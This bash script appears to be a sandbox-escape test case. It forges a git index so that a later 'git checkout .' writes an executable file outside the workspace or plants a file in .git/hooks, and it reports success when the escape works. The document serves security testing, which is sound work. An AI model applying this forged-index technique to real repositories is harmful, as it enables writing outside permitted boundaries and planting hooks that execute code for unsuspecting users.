#!/bin/bash
# must NOT make a later "git checkout ." outside write a file that the index names elsewhere. Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
# VERIFY: cd "$ATK_WS" && cp .git/index .git/atk_index.tmp; git checkout -q . >/dev/null 2>&1; [ -e "$ATK_OUT/atk_index_out" ] || [ -e .git/hooks/atk_index ]
. "${SBX_ENV:-./attack.env}" || exit 77
command -v python3 >/dev/null || exit 77
id=$(echo evil | git hash-object -w --stdin) || exit 1
python3 - "$id" "$ATK_OUT/atk_index_out" .git/hooks/atk_index <<'P' || exit 1
import hashlib, struct, sys
blob = bytes.fromhex(sys.argv[1])
def entry(name):
    e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + blob + struct.pack(">H", len(name)) + name
    return e + b"\0" * (8 - len(e) % 8)
names = sorted(n.encode() for n in sys.argv[2:])
body = b"DIRC" + struct.pack(">II", 2, len(names)) + b"".join(map(entry, names))
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
P
exit 0
